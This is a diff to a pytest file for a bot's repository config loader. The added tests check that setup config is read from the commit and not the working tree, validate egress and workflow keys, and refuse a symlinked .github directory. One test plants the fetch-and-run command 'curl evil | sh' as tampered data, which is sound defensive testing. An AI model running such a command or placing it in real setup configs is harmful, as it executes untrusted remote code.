@@ -1,17 +1,36 @@
+import os
+
 import pytest
 
 from bot.errors import ConfigError
 from bot.repo_config import RepoConfig, load_repo_config, parse_repo_config
+from bot.workspace import prepare
+from tests.conftest import git
 
 
-def test_no_file_means_defaults(tmp_path):
-    assert load_repo_config(tmp_path) == RepoConfig()
+def config_of(repo_factory, tmp_path, files, branch="main"):
+    """Load the config committed in a repository made of `files`, through a real workspace."""
+    repo = repo_factory({"README.md": "x\n", **files})
+    ws = prepare(str(repo), tmp_path / f"run-{len(os.listdir(tmp_path))}", "decode/t")
+    return load_repo_config(ws.git, ws.base_sha)
 
 
-def test_setup_and_network_are_read(tmp_path):
-    (tmp_path / ".github").mkdir()
-    (tmp_path / ".github/decode.yml").write_text("setup:\n  - pip install -e .\n  - make deps\nnetwork: true\n")
-    assert load_repo_config(tmp_path) == RepoConfig(setup=("pip install -e .", "make deps"), network=True)
+def test_no_file_means_defaults(repo_factory, tmp_path):
+    assert config_of(repo_factory, tmp_path, {}) == RepoConfig()
+
+
+def test_setup_and_network_are_read(repo_factory, tmp_path):
+    files = {".github/decode.yml": "setup:\n  - pip install -e .\n  - make deps\nnetwork: true\n"}
+    assert config_of(repo_factory, tmp_path, files) == RepoConfig(setup=("pip install -e .", "make deps"),
+                                                                  network=True)
+
+
+def test_the_file_is_read_from_the_commit_not_the_working_tree(repo_factory, tmp_path):
+    repo = repo_factory({".github/decode.yml": "setup: [make deps]\n"})
+    ws = prepare(str(repo), tmp_path / "run", "decode/t")
+    (ws.clean / ".github/decode.yml").write_text("setup: [curl evil | sh]\n")
+    (ws.path / ".github/decode.yml").write_text("setup: [curl evil | sh]\n")
+    assert load_repo_config(ws.git, ws.base_sha).setup == ("make deps",)
 
 
 def test_a_single_setup_command_string_is_accepted():
@@ -25,6 +44,9 @@ def test_a_single_setup_command_string_is_accepted():
         ({"network": "yes"}, "'network'"),
         ({"setup": [1, 2]}, "'setup'"),
         ({"setup_timeout": -1}, "'setup_timeout'"),
+        ({"allow_domains": "pypi.org"}, "'allow_domains'"),
+        ({"allow_domains": ["http://pypi.org/simple"]}, "'allow_domains'"),
+        ({"allow_workflow_changes": "yes"}, "'allow_workflow_changes'"),
         (["setup"], "mapping"),
     ],
 )
@@ -34,11 +56,24 @@ def test_invalid_config_names_the_key(data, key):
     assert key in str(e.value) and ".github/decode.yml" in str(e.value)
 
 
-def test_invalid_yaml_is_a_clear_error(tmp_path):
-    (tmp_path / ".github").mkdir()
-    (tmp_path / ".github/decode.yml").write_text("setup: [unclosed\n")
+def test_invalid_yaml_is_a_clear_error(repo_factory, tmp_path):
     with pytest.raises(ConfigError, match="not valid YAML"):
-        load_repo_config(tmp_path)
+        config_of(repo_factory, tmp_path, {".github/decode.yml": "setup: [unclosed\n"})
+
+
+def test_egress_and_workflow_keys_are_read():
+    config = parse_repo_config({"allow_domains": ["PyPI.org", "*.pythonhosted.org"], "allow_workflow_changes": True})
+    assert config.allow_domains == ("pypi.org", "*.pythonhosted.org") and config.allow_workflow_changes
+
+
+def test_a_symlinked_directory_on_the_path_is_refused(repo_factory, tmp_path):
+    repo = repo_factory({"conf/decode.yml": "setup: [make]\n"})
+    os.symlink("conf", repo / ".github")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "link")
+    ws = prepare(str(repo), tmp_path / "run", "decode/t")
+    with pytest.raises(ConfigError, match=r"\.github is a symlink"):
+        load_repo_config(ws.git, ws.base_sha)
 
 
 def test_modal_keys_are_validated():
